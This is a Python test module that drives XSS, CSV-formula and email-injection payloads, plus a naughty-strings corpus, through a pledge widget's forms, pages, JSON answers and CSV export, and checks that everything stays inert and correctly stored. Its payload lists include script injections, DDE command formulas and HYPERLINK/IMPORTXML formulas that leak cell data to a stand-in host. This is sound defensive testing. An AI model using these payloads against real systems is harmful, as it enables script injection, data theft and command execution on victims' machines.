"""Hostile input, table-driven: our own XSS and spreadsheet-formula payloads plus every string of
the shared "naughty strings" corpus go into every text field a signer (or a partner's link) can
fill. Each must be stored as typed and shown safely, or refused with a clear message: nothing
executes, nothing survives raw, nothing crashes, no count drifts from its rows.

Pages covered are the ones that exist: the embed page, the re-rendered form, the thank-you page,
the error page and the counter, the public list of organisations, the JSON answers, and the CSV
export. There is no staff dashboard yet; SECURITY.md says so.

One app and one database for the whole table (a pledge per payload, so each payload's export and
counts are its own), a fake clock instead of waiting, and rate limits off. Each payload walks
through the product once, the first time a test asks for it (`World.walk`); one test per stage
then reads what that walk was answered, so a failure names the stage and the payload.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
import unicodedata
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx2
import pytest
from starlette.testclient import TestClient

from tests.conftest import FakeClock, Signer, form_token_of, make_partner, make_pledge, on_db
from widget_server.core.signform import MAX_LENGTHS, clean_text, normalise_email
from widget_server.messages import FORM_BAD, TAMPERED, WRONG_SITE
from widget_server.services import organisations, reports
from widget_server.services.pledges import add_pledge
from widget_server.settings import Settings
from widget_server.storage.engines import open_store
from widget_server.web.app import create_app
from widget_server.web.widget.assets import load_assets

# A copy of shared/corpus/naughty-strings.json (MIT, licence beside it), kept in the repository so
# a newcomer's clone runs the same table as CI.
CORPUS = Path(__file__).resolve().parents[1] / "data" / "naughty-strings.json"


def load_corpus() -> list[str]:
    """The Big List of Naughty Strings; a missing file is a failure, never a skip."""
    if not CORPUS.is_file():
        raise FileNotFoundError(f"The hostile-input corpus is missing: expected {CORPUS}.")
    strings = json.loads(CORPUS.read_text(encoding="utf-8"))
    assert isinstance(strings, list) and len(strings) > 100 and all(isinstance(s, str) for s in strings)
    return strings


XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">Click</a>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</h2><script>alert(1)</script><h2>",
    '<iframe src="https://evil.example"></iframe>',
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Sign</button></form>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202eevil.exe\u202c",
    "<3 Smith & Sons",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
EMAILS = [
    '"<script>alert(1)</script>"@example.org',
    "ana@example.org<script>alert(1)</script>",
    "=1+1@example.org",
    "+trick@example.org",
    "-minus@example.org",
    "@SUM(1)@example.org",
    "javascript:alert(1)//@example.org",
    "o'brien@example.org",
    "zoë@exämple.org",
    "ana@example.org\r\nBcc: everyone@example.org",
]
PAYLOADS = XSS + FORMULAS + EMAILS + load_corpus()
FIELDS = ("name", "occupation", "organisation")
# What a spreadsheet runs (OWASP), written out here rather than imported, so that a change to
# csvsafe has to convince this test too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
KNOWN_MESSAGES = {
    "",
    "Please enter your name.",
    "Please enter your email address.",
    "Please enter an email address like name@example.org.",
    *(f"Please keep this to {n} characters or fewer." for n in MAX_LENGTHS.values()),
    FORM_BAD,
    TAMPERED,
}


# ---------------------------------------------------------------- reading pages as a browser would


@dataclass
class Page:
    tags: Counter[str]
    elements: list[tuple[str, dict[str, str | None]]]
    inputs: dict[str, dict[str, str | None]]
    thanks_heading: str


class PageReader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.heading: list[str] | None = None
        self.heading_text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.elements.append((tag, found))
        if "data-thanks-heading" in found:
            self.heading = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "h2" and self.heading is not None:
            self.heading_text, self.heading = "".join(self.heading), None

    def handle_data(self, data: str) -> None:
        if self.heading is not None:
            self.heading.append(data)


def read_page(html: str) -> Page:
    reader = PageReader()
    reader.feed(html)
    reader.close()
    inputs = {str(a["name"]): a for t, a in reader.elements if t == "input" and a.get("name")}
    return Page(Counter(t for t, _ in reader.elements), reader.elements, inputs, reader.heading_text)


SAFE_URL_STARTS = ("/", "https://", "mailto:?")


def assert_inert(answer: httpx2.Response, baseline: Page, label: str) -> Page:
    """Exactly the elements our template renders, our one script file, no handlers, safe URLs."""
    assert answer.headers["content-type"].startswith("text/html"), label
    page = read_page(answer.text)
    assert page.tags == baseline.tags, f"{label}: elements differ from the template's"
    known_attributes = {name for _, attrs in baseline.elements for name in attrs} | {"aria-invalid", "autofocus"}
    for tag, attrs in page.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{label}: <{tag} {name}>"
            assert name in known_attributes, f"{label}: <{tag} {name}> is not in our templates"
            if name in ("href", "src", "action", "formaction"):
                assert str(value).startswith(SAFE_URL_STARTS), f"{label}: <{tag} {name}={value!r}>"
        if tag == "script":
            assert attrs == {"src": load_assets().url("frame.js"), "defer": None, "blocking": "render"}, label
    policy = answer.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, label
    return page


def assert_json_says_only_our_words(answer: httpx2.Response, label: str) -> dict[str, Any]:
    """The JSON answers never echo a signer's text: only statuses, counts and our sentences."""
    assert answer.headers["content-type"] == "application/json", label
    assert "<" not in answer.text, label
    body: dict[str, Any] = answer.json()
    if body.get("status") == "signed":
        assert set(body) == {"status", "total"} and isinstance(body["total"], int), label
    elif body.get("status") == "invalid":
        assert set(body) == {"status", "errors", "message", "form_token"}, label
        assert set(body["errors"]) <= {"name", "email", "occupation", "organisation"}, label
        assert set(body["errors"].values()) <= KNOWN_MESSAGES, label
        assert body["message"] in KNOWN_MESSAGES, label
    else:
        assert set(body) == {"error"} and body["error"]["message"] in KNOWN_MESSAGES, label
    return body


def expected_cell(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def accepted(field: str, value: str) -> bool:
    """Would this cleaned value pass the form's rules (the expectation, stated independently)?"""
    if field == "name" and not value:
        return False
    return len(value) <= MAX_LENGTHS[field]


def too_long(field: str) -> str:
    return f"Please keep this to {MAX_LENGTHS[field]} characters or fewer."


# ---------------------------------------------------------------- one app for the whole table


@dataclass
class Walk:
    """One payload's way through the product, and every answer it was given."""

    index: int
    payload: str
    clean: str
    slug: str
    label: str
    page: httpx2.Response  # the embed page, the payload in the link's campaign tags
    again: httpx2.Response  # every text field at once, the email missing
    by_name: httpx2.Response  # as the name, through the no-JavaScript path
    by_field: dict[str, httpx2.Response]  # as the occupation, and the organisation, through JSON
    by_email: httpx2.Response | None  # as the email, when it is shaped like one
    forged: httpx2.Response  # as the form token
    forged_json: httpx2.Response  # as the form token, the only field, asking for JSON
    as_token: httpx2.Response  # as the partner token
    count: httpx2.Response  # as the partner token of the count
    as_parent: httpx2.Response  # as the embedding origin
    listed: httpx2.Response | None  # the public list, once staff approved it as an organisation
    listed_json: httpx2.Response | None

    def expected_rows(self) -> list[dict[str, str]]:
        """The signatures this walk should have stored, in order."""
        rows: list[dict[str, str]] = []
        if accepted("name", self.clean):
            rows.append({"email": f"name-{self.index}@signers.example", "name": self.clean})
        for name in ("occupation", "organisation"):
            if accepted(name, self.clean):
                rows.append({"email": f"{name}-{self.index}@signers.example", "name": "Sam Signer", name: self.clean})
        if self.by_email is not None and self.by_email.status_code == 200:
            rows.append({"email": normalise_email(self.payload), "name": "Eve Mail"})
        return rows


@dataclass
class World:
    settings: Settings
    client: TestClient
    clock: FakeClock
    embed: Page
    invalid: Page
    thanks: Page
    error: Page
    organisations: Page
    walks: dict[int, Walk] = field(default_factory=dict)
    failed: dict[int, Exception] = field(default_factory=dict)

    def slug(self, index: int) -> str:
        return f"p-{index:04d}"

    def walk(self, index: int) -> Walk:
        """Payload `index`'s walk, taken the first time a stage asks for it."""
        if index in self.failed:
            raise RuntimeError(f"payload {index}'s walk failed in the stage that took it") from self.failed[index]
        if index not in self.walks:
            try:
                self.walks[index] = self._take(index)
            except Exception as exc:
                self.failed[index] = exc
                raise
        return self.walks[index]

    def _take(self, index: int) -> Walk:
        payload = PAYLOADS[index]
        clean = clean_text(payload)
        client, slug = self.client, self.slug(index)
        # A partner's link can carry anything in its campaign tags; they travel in the form token.
        signer = Signer(client, self.clock, slug=slug, query={"source": payload, "utm_content": payload})
        page = signer.embed()
        form = form_token_of(page.text)
        self.clock.advance(5)
        again = signer.post(form, name=payload, occupation=payload, organisation=payload, email="")
        by_name = signer.post(form, name=payload, email=f"name-{index}@signers.example")
        by_field = {
            "occupation": signer.post(
                form, json=True, name="Sam Signer", email=f"occupation-{index}@signers.example", occupation=payload
            ),
            "organisation": signer.post(
                form, json=True, name="Sam Signer", email=f"organisation-{index}@signers.example", organisation=payload
            ),
        }
        by_email = signer.post(form, json=True, name="Eve Mail", email=payload) if "@" in payload else None
        forged = signer.post(payload, name="Ann", email="x@signers.example")
        forged_json = signer.post(payload, json=True, name=None, email=None)
        as_token = client.get(f"/embed/{slug}", params={"token": payload})
        count = client.get(f"/api/pledges/{slug}/count", params={"token": payload})
        as_parent = client.get(f"/embed/{slug}", params={"parent": payload})
        listed = listed_json = None
        if accepted("organisation", clean) and clean:
            approve(self.settings, slug, clean)
            listed = client.get(f"/pledge/{slug}/organisations")
            listed_json = client.get(f"/api/pledges/{slug}/organisations")
        return Walk(
            index,
            payload,
            clean,
            slug,
            f"payload {index} {payload!r}",
            page,
            again,
            by_name,
            by_field,
            by_email,
            forged,
            forged_json,
            as_token,
            count,
            as_parent,
            listed,
            listed_json,
        )


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    settings = Settings.from_env(
        environ={},
        data_dir=tmp_path_factory.mktemp("hostile"),
        secret_key="hostile-secret-of-at-least-32-bytes",
        public_url="http://testserver",
        cache_seconds=0.0,
        rate_limit="off",
        partner_rate_limit="off",
    )

    async def pledges() -> None:
        async with open_store(settings.database) as store:
            for index in range(len(PAYLOADS) + 1):
                await add_pledge(
                    store, slug=f"p-{index:04d}", title="Keep our data safe", statement_html="<p>We ask.</p>"
                )

    asyncio.run(pledges())
    clock = FakeClock()
    with TestClient(create_app(settings, clock=clock)) as client:
        # Baselines: the same pages rendered for honest input, to compare hostile ones with.
        slug = f"p-{len(PAYLOADS):04d}"
        signer = Signer(client, clock, slug=slug, query={"source": "newsletter"})
        embed = signer.embed()
        form = form_token_of(embed.text)
        clock.advance(5)
        invalid = signer.post(form, name="Ana", email=None)
        thanks = signer.post(form, name="Ana")
        error = client.get(f"/embed/{slug}", params={"token": "forged"})
        assert (embed.status_code, invalid.status_code, thanks.status_code, error.status_code) == (200, 400, 200, 403)
        clock.advance(5)
        signer.post(form, name="Ana", email="org@example.org", organisation="Hill School")
        approve(settings, slug, "Hill School")
        organisations = client.get(f"/pledge/{slug}/organisations")
        assert "<li>Hill School</li>" in organisations.text
        yield World(
            settings,
            client,
            clock,
            read_page(embed.text),
            read_page(invalid.text),
            read_page(thanks.text),
            read_page(error.text),
            read_page(organisations.text),
        )


def approve(settings: Settings, slug: str, name: str) -> None:
    on_db(settings, lambda store: organisations.review_organisation(store, slug, name, "approved"))


def export(settings: Settings, slug: str) -> list[dict[str, str]]:
    async def go() -> str:
        out = io.StringIO()
        async with open_store(settings.database) as store:
            await reports.export_csv(store, slug, out)
        return out.getvalue()

    return list(csv.DictReader(io.StringIO(asyncio.run(go()), newline="")))


def stored(settings: Settings, slug: str) -> list[sqlite3.Row]:
    conn = sqlite3.connect(settings.database)
    conn.row_factory = sqlite3.Row
    try:
        return conn.execute(
            "SELECT s.* FROM signatures s JOIN pledges p ON p.id = s.pledge_id WHERE p.slug = ? ORDER BY s.id",
            (slug,),
        ).fetchall()
    finally:
        conn.close()


def integrity(settings: Settings) -> list[str]:
    return on_db(settings, lambda store: store.integrity())


# ---------------------------------------------------------------- the table, one test per stage

every_payload = pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=lambda i: f"payload-{i:03d}")
EMAIL_SHAPED = [index for index, payload in enumerate(PAYLOADS) if "@" in payload]
LISTED = [
    index
    for index, payload in enumerate(PAYLOADS)
    if accepted("organisation", clean_text(payload)) and clean_text(payload)
]


@every_payload
def test_campaign_tags_leave_the_embed_page_inert(world: World, index: int) -> None:
    walk = world.walk(index)
    assert walk.page.status_code == 200, walk.label
    assert_inert(walk.page, world.embed, walk.label)


@every_payload
def test_a_refused_form_comes_back_inert_with_every_field_kept(world: World, index: int) -> None:
    walk = world.walk(index)
    assert walk.again.status_code == 400, walk.label
    kept = assert_inert(walk.again, world.invalid, walk.label)
    for name in FIELDS:
        assert kept.inputs[name]["value"] == walk.clean, f"{walk.label}: {name} not kept exactly"
    assert kept.inputs["email"]["aria-invalid"] == "true"


@every_payload
def test_the_thank_you_page_shows_the_name_escaped_or_the_form_says_why_not(world: World, index: int) -> None:
    walk = world.walk(index)
    answer, label = walk.by_name, walk.label
    if accepted("name", walk.clean):
        assert answer.status_code == 200, label
        thanks = assert_inert(answer, world.thanks, label)
        assert thanks.thanks_heading == f"Thank you, {walk.clean}. You have signed.", label
    else:
        assert answer.status_code == 400, label
        refused = assert_inert(answer, world.invalid, label)
        assert refused.inputs["name"]["aria-invalid"] == "true", label
        message = "Please enter your name." if not walk.clean else too_long("name")
        assert message in answer.text, label


@every_payload
def test_the_json_answers_say_only_our_words(world: World, index: int) -> None:
    """Occupation and organisation, through the enhanced (JSON) path."""
    walk = world.walk(index)
    for name, answer in walk.by_field.items():
        body = assert_json_says_only_our_words(answer, walk.label)
        if accepted(name, walk.clean):
            assert (answer.status_code, body["status"]) == (200, "signed"), walk.label
        else:
            assert answer.status_code == 400, walk.label
            assert body["errors"] == {name: too_long(name)}, walk.label


@pytest.mark.parametrize("index", EMAIL_SHAPED, ids=lambda i: f"payload-{i:03d}")
def test_a_payload_shaped_like_an_email_is_signed_or_refused_as_the_email(world: World, index: int) -> None:
    walk = world.walk(index)
    answer = walk.by_email
    assert answer is not None
    body = assert_json_says_only_our_words(answer, walk.label)
    # Accepted, it is a signature that the stored-rows stage expects; refused, only the email is blamed.
    if answer.status_code != 200:
        assert answer.status_code == 400, walk.label
        assert set(body["errors"]) == {"email"}, walk.label


@every_payload
def test_as_a_token_or_an_embedding_origin_it_is_refused_never_a_crash(world: World, index: int) -> None:
    walk = world.walk(index)
    label = walk.label
    assert walk.forged.status_code == 400, label
    assert_inert(walk.forged, world.error, label)
    assert assert_json_says_only_our_words(walk.forged_json, label) == {"error": {"status": 400, "message": FORM_BAD}}
    as_token, count, as_parent = walk.as_token, walk.count, walk.as_parent
    if walk.payload == "":
        assert (as_token.status_code, count.status_code, as_parent.status_code) == (200, 200, 200), label
    else:
        assert as_token.status_code == count.status_code == 403, label
        assert_inert(as_token, world.error, label)
        assert_json_says_only_our_words(count, label)
        assert as_parent.status_code == 403, label
        assert_inert(as_parent, world.error, label)
        assert WRONG_SITE.replace("'", "&#39;") in as_parent.text
        assert "frame-ancestors 'none'" in as_parent.headers["content-security-policy"], label


@pytest.mark.parametrize("index", LISTED, ids=lambda i: f"payload-{i:03d}")
def test_an_approved_organisation_is_listed_in_public_escaped_exactly_as_typed(world: World, index: int) -> None:
    walk = world.walk(index)
    assert walk.listed is not None and walk.listed_json is not None
    assert walk.listed.status_code == 200, walk.label
    assert_inert(walk.listed, world.organisations, walk.label)
    assert walk.listed_json.json() == {"organisations": [walk.clean]}, walk.label


@every_payload
def test_what_is_accepted_is_stored_exactly_as_cleaned(world: World, index: int) -> None:
    walk = world.walk(index)
    assert not any(unicodedata.category(c) == "Cc" for c in walk.clean)  # no control characters kept
    attribution = walk.clean[:100]
    rows = stored(world.settings, walk.slug)
    columns = ("email", "name", "occupation", "organisation")
    assert [{c: r[c] for c in columns} for r in rows] == [
        {"occupation": "", "organisation": "", **row} for row in walk.expected_rows()
    ], walk.label
    assert all((r["source"], r["utm_content"]) == (attribution, attribution) for r in rows), walk.label


@every_payload
def test_the_export_neutralises_formulas_and_changes_nothing_else(world: World, index: int) -> None:
    walk = world.walk(index)
    rows = stored(world.settings, walk.slug)
    exported = export(world.settings, walk.slug)
    assert len(exported) == len(rows), walk.label
    for row, cells in zip(rows, exported, strict=True):
        for column in ("email", "name", "occupation", "organisation", "source", "utm_content"):
            assert cells[column] == expected_cell(row[column]), f"{walk.label}: CSV {column}"
            assert not cells[column].startswith(FORMULA_STARTS), f"{walk.label}: CSV {column}"


@every_payload
def test_no_count_drifts_from_its_rows(world: World, index: int) -> None:
    walk = world.walk(index)
    assert integrity(world.settings) == [], walk.label
    total = len(stored(world.settings, walk.slug))
    assert world.client.get(f"/api/pledges/{walk.slug}/count").json() == {"total": total}, walk.label


def test_staff_written_plain_text_is_escaped_too(settings, make_client, clock) -> None:
    """The pledge title and a partner's name are plain text as well: escaped wherever shown."""
    title = '</title><script>alert("title")</script>'
    partner_name = "<img src=x onerror=alert('partner')> & Co"
    make_pledge(settings, title=title, contact="<a href=javascript:alert(1)>call us</a>")
    token = make_partner(settings, name=partner_name).token
    client = make_client(settings, rate_limit="off")
    signer = Signer(client, clock, token=token)
    pages = {
        "embed": signer.embed(),
        "counter": client.get("/embed/data-firewall/counter", params={"token": token}),
        "privacy": client.get("/pledge/data-firewall/privacy"),
    }
    clock.advance(5)
    form = form_token_of(pages["embed"].text)
    pages["thanks"] = signer.post(form, name="Ana")
    for label, answer in pages.items():
        assert answer.status_code == 200, label
        page = read_page(answer.text)
        scripts = [attrs for tag, attrs in page.elements if tag == "script"]
        assert scripts == [{"src": load_assets().url("frame.js"), "defer": None, "blocking": "render"}], label
        assert "img" not in page.tags, label
        assert not any(name.startswith("on") for _, attrs in page.elements for name in attrs), label
        assert not any(str(attrs.get("href", "")).startswith("javascript:") for _, attrs in page.elements), label
        assert "<script>alert" not in answer.text and "<img src=x" not in answer.text, label
    assert "&lt;img src=x onerror=alert(&#39;partner&#39;)&gt; &amp; Co may contact me" in pages["embed"].text
